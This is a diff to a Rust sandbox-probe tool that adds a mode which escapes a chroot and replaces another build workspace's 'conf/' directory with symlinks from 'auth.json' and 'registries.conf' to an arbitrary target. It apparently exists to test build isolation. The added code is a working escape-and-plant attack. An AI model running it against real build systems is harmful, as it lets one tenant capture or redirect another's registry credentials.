@@ -41,6 +41,31 @@ fn write_file(path: &str, text: &str) -> Result<(), nix::errno::Errno> {
 /// climb ended. Then looks at DIR and tries to read OTHER: `escaped: DIR exists|DIR missing`,
 /// `entry: NAME` per entry (or `list: denied`), `other: READ` (a directory), `other: READ
 /// TEXT` (a file) or `other: denied (ERROR)`. `{entry}` in OTHER is DIR's first entry.
+/// `kat-escape-probe --chroot-escape-plant DIR TARGET`: after the same escape, swaps the
+/// `conf/` of DIR's first entry (a build's own workspace) for a directory whose `auth.json`
+/// and `registries.conf` are links to TARGET, where an agent that writes there after the
+/// build would write. Prints `planted` or `plant: denied (ERROR)`.
+fn chroot_escape_plant(dir: &str, target: &str) {
+    chroot_escape(dir, "/");
+    let Some(entry) = std::fs::read_dir(dir)
+        .ok()
+        .and_then(|mut d| d.next())
+        .and_then(Result::ok)
+    else {
+        println!("plant: denied (no workspace)");
+        return;
+    };
+    let conf = entry.path().join("conf");
+    let planted = std::fs::rename(&conf, entry.path().join("conf.old"))
+        .and_then(|()| std::fs::create_dir(&conf))
+        .and_then(|()| std::os::unix::fs::symlink(target, conf.join("auth.json")))
+        .and_then(|()| std::os::unix::fs::symlink(target, conf.join("registries.conf")));
+    match planted {
+        Ok(()) => println!("planted"),
+        Err(e) => println!("plant: denied ({e})"),
+    }
+}
+
 fn chroot_escape(dir: &str, other: &str) {
     let _ = std::fs::create_dir("/.kat-chroot-escape");
     if let Err(e) = nix::unistd::chroot("/.kat-chroot-escape") {
@@ -81,6 +106,13 @@ fn chroot_escape(dir: &str, other: &str) {
 
 fn main() {
     let args: Vec<String> = std::env::args().collect();
+    if args.get(1).map(String::as_str) == Some("--chroot-escape-plant") {
+        chroot_escape_plant(
+            args.get(2).map_or("/", String::as_str),
+            args.get(3).map_or("/", String::as_str),
+        );
+        return;
+    }
     if args.get(1).map(String::as_str) == Some("--chroot-escape") {
         chroot_escape(
             args.get(2).map_or("/", String::as_str),
